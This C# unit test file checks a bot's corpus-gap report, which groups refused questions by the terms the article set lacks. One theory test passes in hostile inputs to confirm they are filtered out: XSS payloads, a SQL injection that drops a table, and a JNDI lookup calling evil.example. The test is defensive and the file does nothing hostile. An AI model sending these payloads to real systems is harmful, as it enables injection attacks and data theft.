using KforBot.Log;

namespace KforBot.Tests.Log;

public sealed class CorpusGapsTests
{
    [Fact]
    public async Task Gaps_GroupRefusalsByUncoveredWords_MostFrequentFirst_WithExamples()
    {
        await using var log = new LogServices();
        await log.StartAsync();
        log.Log.Record(Sample.Alice, Sample.Refused("Weather in Pristina?", "My articles mention “Pristina”, but none of them mentions “weather”."), TimeSpan.Zero);
        log.Clock.Advance(TimeSpan.FromDays(2));
        log.Log.Record(Sample.Bob, Sample.Refused("What did Albin Kurti say?", "None of my 5 articles mentions “Albin Kurti”."), TimeSpan.Zero);
        log.Log.Record(Sample.Alice, Sample.Refused("Is the weather good?", "None of my 5 articles mentions “Weather”."), TimeSpan.Zero);
        log.Log.Record(Sample.Alice, Sample.Refused("Albin Kurti and KFOR?", "None of my 5 articles mentions “Albin Kurti”."), TimeSpan.Zero);
        log.Log.Record(Sample.Bob, Sample.Refused("Kurti's weather?", "None of my 5 articles mentions “Albin Kurti” or “weather”."), TimeSpan.Zero);
        log.Log.Record(Sample.Bob, Sample.Answered(), TimeSpan.Zero);
        await log.StopAsync();

        var gaps = await log.Get<CorpusGaps>().FindAsync(null, CancellationToken.None);

        Assert.Equal(["Albin Kurti", "weather"], gaps.Select(g => g.Term));
        Assert.Equal([3, 3], gaps.Select(g => g.Questions));
        Assert.Equal(["Kurti's weather?", "Is the weather good?", "Weather in Pristina?"], gaps[1].Examples);

        var recent = await log.Get<CorpusGaps>().FindAsync(LogServices.Start.AddDays(1), CancellationToken.None);
        Assert.Equal([("Albin Kurti", 3), ("weather", 2)], recent.Select(g => (g.Term, g.Questions)));
    }

    [Fact]
    public async Task Gaps_KeepTheWordsOfANameTogether()
    {
        await using var log = new LogServices();
        await log.StartAsync();
        log.Log.Record(Sample.Bob, Sample.Refused("albin kurti kfor", "None of my 5 articles mentions “albin” or “kurti”."), TimeSpan.Zero);
        log.Log.Record(Sample.Alice, Sample.Refused("What did Albin Kurti say about KFOR?", "None of my 5 articles mentions “Albin” or “Kurti”."), TimeSpan.Zero);
        log.Log.Record(Sample.Bob, Sample.Refused("Does Kurti like the weather?", "My articles mention “like”, but none of them mentions “Kurti” or “weather”."), TimeSpan.Zero);
        await log.StopAsync();

        var gaps = await log.Get<CorpusGaps>().FindAsync(null, CancellationToken.None);

        Assert.Equal([("Albin Kurti", 2), ("Kurti", 1), ("weather", 1)], gaps.Select(g => (g.Term, g.Questions)));
    }

    [Theory]
    [InlineData("1", "“1”")]
    [InlineData("7?", "“7”")]
    [InlineData("x", "“x”")]
    [InlineData("<script>alert('x')</script>", "“script” or “alert”")]
    [InlineData("document.cookie", "“document.cookie”")]
    [InlineData("what is document . cookie", "“document” or “cookie”")]
    [InlineData("javascript:alert(1)", "“javascript” or “alert”")]
    [InlineData("<b>weather</b>", "“b” or “weather”")]
    [InlineData("<img src=x onerror=alert(1)>", "“img”, “src”, “onerror” or “alert”")]
    [InlineData("'; DROP TABLE passages; --", "“DROP”, “TABLE” or “passages”")]
    [InlineData("\" OR 1=1 --", "“1=1”")]
    [InlineData("&lt;weather&gt;", "“lt” or “weather”")]
    [InlineData("${jndi:ldap://evil.example/a}", "“jndi” or “ldap”")]
    public async Task Gaps_LeaveOutNoiseAndHostileInput(string question, string quoted)
    {
        await using var log = new LogServices();
        await log.StartAsync();
        log.Log.Record(Sample.Alice, Sample.Refused(question, $"None of my 5 articles mentions {quoted}."), TimeSpan.Zero);
        log.Log.Record(Sample.Bob, Sample.Refused("Is the weather good?", "None of my 5 articles mentions “weather”."), TimeSpan.Zero);
        await log.StopAsync();

        var gaps = await log.Get<CorpusGaps>().FindAsync(null, CancellationToken.None);

        Assert.Equal([("weather", 1)], gaps.Select(g => (g.Term, g.Questions)));
    }
}
